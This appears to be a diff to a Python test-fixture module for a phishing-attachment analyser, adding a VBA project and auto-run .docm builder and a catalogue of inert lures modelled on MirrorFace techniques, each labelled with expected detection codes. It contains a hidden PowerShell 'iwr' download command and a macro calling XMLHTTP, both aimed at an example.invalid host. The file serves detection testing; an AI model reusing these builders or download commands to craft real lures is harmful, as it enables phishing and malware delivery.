@@ -7,6 +7,7 @@ are short text, executables have no code. Everything is built in memory and retu
 
 from __future__ import annotations
 
+import dataclasses
 import io
 import struct
 import zipfile
@@ -16,6 +17,8 @@ from collections.abc import Iterable, Mapping
 import py7zr
 import pycdlib
 import pyzipper
+
+from aptlink.analysis.cfbwriter import write_cfb
 
 Members = Mapping[str, bytes] | Iterable[tuple[str, bytes]]
 
@@ -406,3 +409,214 @@ def make_pe(overlay: bytes = b"", *, dll: bool = False) -> bytes:
     headers = dos + coff + optional + section
     image = headers + bytes(0x200 - len(headers)) + bytes(0x200)
     return image + overlay
+
+
+# --- VBA projects (MS-OVBA) -----------------------------------------------------------------------
+
+VBA_CHUNK = 4096
+# A literal-only compressed chunk grows by one flag byte per 8 bytes; over this it would not fit.
+VBA_LITERAL_MAX = 3640
+DOCUMENT_MODULE_ATTRIBUTES = (
+    'Attribute VB_Name = "{name}"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n'
+    "Attribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n"
+    "Attribute VB_PredeclaredId = True\r\nAttribute VB_Exposed = True\r\n"
+    "Attribute VB_TemplateDerived = True\r\nAttribute VB_Customizable = True\r\n"
+)
+
+
+def ovba_compress(data: bytes) -> bytes:
+    """MS-OVBA 2.4.1 compression: raw chunks for full 4096-byte blocks, a literal-only chunk for the
+    tail. Valid for every decompressor, though larger than Office's own output."""
+    out = bytearray(b"\x01")
+    full, tail = divmod(len(data), VBA_CHUNK)
+    for index in range(full):
+        out += (
+            struct.pack("<H", 0x3000 | (VBA_CHUNK - 1))
+            + data[index * VBA_CHUNK : (index + 1) * VBA_CHUNK]
+        )
+    rest = data[full * VBA_CHUNK :]
+    if rest:
+        if tail > VBA_LITERAL_MAX:
+            raise ValueError(
+                f"a VBA stream tail of {tail} bytes needs copy tokens; keep sources shorter"
+            )
+        body = b"".join(b"\x00" + rest[i : i + 8] for i in range(0, len(rest), 8))
+        out += struct.pack("<H", 0xB000 | (len(body) + 2 - 3)) + body
+    return bytes(out)
+
+
+def _record(rec_id: int, data: bytes) -> bytes:
+    return struct.pack("<HI", rec_id, len(data)) + data
+
+
+def _vba_dir(modules: list[tuple[str, bool]], codepage: int) -> bytes:
+    out = _record(0x01, struct.pack("<I", 1))  # SYSKIND: 32-bit Windows
+    out += _record(0x02, struct.pack("<I", 0x409)) + _record(0x14, struct.pack("<I", 0x409))
+    out += _record(0x03, struct.pack("<H", codepage)) + _record(0x04, b"Project")
+    out += _record(0x05, b"") + _record(0x40, b"")  # doc string, and its unicode form
+    out += _record(0x06, b"") + _record(0x3D, b"")  # help file paths
+    out += _record(0x07, struct.pack("<I", 0)) + _record(0x08, struct.pack("<I", 0))
+    out += struct.pack("<HIIH", 0x09, 4, 1, 0)  # PROJECTVERSION
+    out += _record(0x0C, b"") + _record(0x3C, b"")  # constants
+    out += struct.pack("<HIH", 0x0F, 2, len(modules)) + _record(0x13, struct.pack("<H", 0xFFFF))
+    for name, is_document in modules:
+        raw, wide = name.encode("latin-1"), name.encode("utf-16-le")
+        out += _record(0x19, raw) + _record(0x47, wide) + _record(0x1A, raw) + _record(0x32, wide)
+        out += _record(0x1C, b"") + _record(0x48, b"") + _record(0x31, struct.pack("<I", 0))
+        out += _record(0x1E, struct.pack("<I", 0)) + _record(0x2C, struct.pack("<H", 0xFFFF))
+        out += struct.pack("<HI", 0x22 if is_document else 0x21, 0) + struct.pack("<HI", 0x2B, 0)
+    return out + struct.pack("<HI", 0x10, 0)
+
+
+def make_vba_project(modules: Mapping[str, str], *, document_module: str = "ThisDocument") -> bytes:
+    """A ``vbaProject.bin`` (an OLE file per MS-OVBA) holding ``modules`` (name -> VBA source, without
+    attributes); the module named ``document_module`` is the document's own class module."""
+    listing = [(name, name == document_module) for name in modules]
+    streams: dict[str, bytes] = {"VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00"}
+    project = ['ID="{00000000-0000-0000-0000-000000000000}"']
+    for name, is_document in listing:
+        head = (
+            DOCUMENT_MODULE_ATTRIBUTES.format(name=name)
+            if is_document
+            else f'Attribute VB_Name = "{name}"\r\n'
+        )
+        source = head + modules[name].replace("\r\n", "\n").replace("\n", "\r\n")
+        streams[f"VBA/{name}"] = ovba_compress(source.encode("cp1252", "replace"))
+        project.append(f"Document={name}/&H00000000" if is_document else f"Module={name}")
+    project += [
+        'Name="Project"',
+        'HelpContextID="0"',
+        'VersionCompatible32="393222000"',
+        "",
+        "[Host Extender Info]",
+    ]
+    project += ["&H00000001={3832D640-CF90-11CF-8E43-00A0C911005A};VBE;&H00000000", ""]
+    streams["PROJECT"] = "\r\n".join(project).encode("latin-1") + b"\r\n"
+    streams["VBA/dir"] = ovba_compress(_vba_dir(listing, 1252))
+    return write_cfb(streams)
+
+
+DOCM_CONTENT_TYPES = CONTENT_TYPES.replace(
+    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+    "application/vnd.ms-word.document.macroEnabled.main+xml",
+).replace(
+    '<Default Extension="xml"',
+    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="xml"',
+)
+VBA_RELATIONSHIP = (
+    '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
+    'Target="vbaProject.bin"/>'
+)
+
+
+def make_docm(macro: str, *, auto_open: bool = True, text: str = "", author: str = "") -> bytes:
+    """A macro-enabled Word document whose ``ThisDocument`` module holds ``macro``; with
+    ``auto_open`` the code is wrapped in ``Document_Open`` so it runs when the document opens."""
+    body = f"Private Sub Document_Open()\n{macro}\nEnd Sub\n" if auto_open else macro
+    with zipfile.ZipFile(io.BytesIO(make_docx(text=text, author=author))) as plain:
+        parts = {info.filename: plain.read(info) for info in plain.infolist()}
+    parts["[Content_Types].xml"] = DOCM_CONTENT_TYPES.encode("utf-8")
+    rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
+    parts["word/_rels/document.xml.rels"] = rels.replace(
+        "</Relationships>", VBA_RELATIONSHIP + "</Relationships>"
+    ).encode()
+    parts["word/vbaProject.bin"] = make_vba_project({"ThisDocument": body})
+    return make_zip(parts)
+
+
+# --- a catalogue of MirrorFace-style attachments --------------------------------------------------
+
+
+@dataclasses.dataclass(frozen=True, slots=True)
+class Lure:
+    """An inert attachment in the style of a documented technique, what the mail body should say
+    about it (the password line, if any) and the reason codes analysis must find."""
+
+    name: str
+    data: bytes
+    technique: str
+    expect: tuple[str, ...]
+    password: str | None = None
+    body_line: str = ""
+
+
+POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+WORD_ICON = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
+DEMO_URL = "https://example.invalid/aptlink-demo"
+
+
+def lure_attachments() -> list[Lure]:
+    """Attachments shaped like MirrorFace's (docs/mirrorface-facts.md): ZIPs with a password in the
+    body, ``.docx.lnk`` shortcuts, SFX posing as documents, remote templates, macro documents,
+    disk images, HTML smuggling. Each is inert (commands name ``example.invalid``)."""
+    lnk = make_lnk(POWERSHELL, f"-w hidden -c iwr {DEMO_URL}/a.ps1", WORD_ICON)
+    rundll = make_lnk(r"C:\Windows\System32\rundll32.exe", r"..\data\doc.dll,Start", WORD_ICON)
+    macro = f'MsgBox "aptlink demo"\nSet x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "{DEMO_URL}/m", False'
+    return [
+        Lure(
+            "国際情勢と日本外交.zip",
+            make_zip({"国際情勢と日本外交.docx.lnk": lnk}, password="nichibei2024"),
+            "T1204.002",
+            ("archive-encrypted", "archive-password-in-mail", "double-extension", "lnk-powershell"),
+            "nichibei2024",
+            "パスワード：nichibei2024",
+        ),
+        Lure(
+            "取材のご依頼.zip",
+            make_zip({"取材のご依頼.docx.lnk": rundll}),
+            "T1218.011",
+            ("double-extension", "lnk-rundll32", "lnk-document-icon"),
+        ),
+        Lure(
+            "The EXPO Exhibition in Japan in 2025.zip",
+            make_zip({"The EXPO Exhibition in Japan in 2025.docx.lnk": lnk}),
+            "T1059.001",
+            ("double-extension", "lnk-powershell"),
+        ),
+        Lure(
+            "panelists.7z",
+            make_7z({"panelists.docx.lnk": lnk}, password="Kenkyu#7"),
+            "T1027.013",
+            ("archive-encrypted", "lnk-powershell"),
+            "Kenkyu#7",
+            "The password for the attached file is Kenkyu#7",
+        ),
+        Lure(
+            "【参考】選挙管理委員会宛文書.zip",
+            make_zip(
+                {"【参考】選挙管理委員会宛文書.docx.exe": make_pe(make_zip({"a.docx": b"x"}))}
+            ),
+            "T1036.007",
+            ("double-extension", "executable", "sfx-archive"),
+        ),
+        Lure(
+            "日米同盟勉強会のご案内.docx",
+            make_docx(f"{DEMO_URL}/template.dotm", author="山田太郎"),
+            "T1221",
+            ("remote-template",),
+        ),
+        Lure(
+            "台湾海峡情勢.docm",
+            make_docm(macro, author="山田太郎"),
+            "T1204.002",
+            ("macro-vba", "macro-autoexec", "macro-suspicious"),
+        ),
+        Lure(
+            "Indo-Pacific.iso",
+            make_iso({"Indo-Pacific.docx.lnk": lnk}),
+            "T1553.005",
+            ("container-image", "lnk-powershell"),
+        ),
+        Lure(
+            "invoice.html",
+            make_html_smuggling(make_zip({"invoice.docx.lnk": lnk})),
+            "T1027.006",
+            ("html-smuggling",),
+        ),
+        Lure(
+            "resume.pdf",
+            make_pdf(javascript="app.alert('aptlink demo')"),
+            "T1059.007",
+            ("pdf-javascript",),
+        ),
+    ]
